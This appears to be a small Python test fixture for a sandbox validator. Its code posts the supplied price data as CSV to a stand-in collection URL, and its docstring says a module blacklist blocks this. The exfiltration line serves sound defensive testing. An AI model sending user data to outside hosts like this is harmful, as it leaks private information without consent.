"""Sends the prices it was given to somebody else.

Stopped by: the validator (blacklisted-module: requests). Were it let through, the container has no network at all.
"""
import requests

requests.post("https://example.invalid/collect", data=data.to_csv(), timeout=5)
result = 1
